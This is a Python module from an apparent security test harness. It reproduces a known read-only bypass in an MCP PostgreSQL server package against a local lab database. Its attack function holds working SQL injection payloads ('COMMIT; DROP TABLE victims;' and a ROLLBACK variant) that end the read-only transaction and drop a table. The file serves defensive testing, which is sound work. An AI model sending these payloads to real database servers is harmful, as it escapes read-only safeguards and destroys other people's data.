"""The reference PostgreSQL server, whose read-only transaction a statement can end."""

import subprocess
import time

from attack import SERVERS, Attack, Stdio, module, node, program
from lab import Lab
from session import Session

UP_WITHIN_S = 60
# Says what a query gives, on a connection of its own.
ASK = """
const pg = (await import(process.argv[1] + "/node_modules/pg/lib/index.js")).default;
const client = new pg.Client(process.argv[2]);
await client.connect();
console.log(JSON.stringify((await client.query(process.argv[3])).at?.(-1)?.rows ?? []));
await client.end();
"""


def prepare(lab: Lab) -> None:
    """A PostgreSQL of this lab alone, at a socket in a folder."""
    socket = lab.folder / "db/.s.PGSQL.5432"
    socket.parent.mkdir()
    script = module("postgres", "@electric-sql/pglite-socket/dist/scripts/server.js")
    lab.start(program("node"), str(script), "--path", str(socket), "--max-connections", "5")
    deadline = time.monotonic() + UP_WITHIN_S
    while not socket.exists():
        if time.monotonic() > deadline:
            raise SystemExit("error: the PostgreSQL of the lab did not start")
        time.sleep(0.1)
    ask(lab, f"CREATE TABLE notes (text TEXT); INSERT INTO notes VALUES ('a note'); CREATE TABLE victims (id INT)")


def ask(lab: Lab, query: str) -> str:
    command = [program("node"), "--input-type=module", "-e", ASK, str(SERVERS / "postgres"), database(lab), f"{query}; SELECT 1 AS done"]
    return subprocess.run(command, check=True, capture_output=True, text=True, timeout=UP_WITHIN_S).stdout


def database(lab: Lab) -> str:
    return f"postgresql://postgres@localhost/postgres?host={lab.folder}/db"


def server(lab: Lab) -> Stdio:
    return node("postgres", "@modelcontextprotocol/server-postgres/dist/index.js", database(lab), cwd=lab.inside)


async def ordinary(session: Session, _: Lab) -> None:
    await session.expect("a note", "query", sql="SELECT text FROM notes")


async def attack(session: Session, _: Lab) -> None:
    await session.attempt("query", sql="COMMIT; DROP TABLE victims;")
    await session.attempt("query", sql="ROLLBACK; DROP TABLE victims; SELECT 1")


def happened(_: Session, lab: Lab) -> bool:
    try:
        ask(lab, "SELECT 1 FROM victims")
        return False
    except subprocess.CalledProcessError as error:
        if "victims" not in error.stderr:
            raise
        return True


ATTACKS = (
    Attack(
        name="postgres-commit",
        ids="Datadog 2025-08",
        package="@modelcontextprotocol/server-postgres@0.6.2",
        what="ends the read-only transaction and drops a table",
        prepare=prepare,
        server=server,
        ordinary=ordinary,
        attack=attack,
        happened=happened,
        constraints=lambda lab: [{"at": "/sql", "required": True, "sql": {"dialect": "postgresql", "tables": ["notes"]}}],
        sandbox=lambda lab: {"write": [str(lab.folder / "db")]},
        no_sandbox="the effect is in a database that the server has to reach",
        needs=("postgres",),
    ),
)
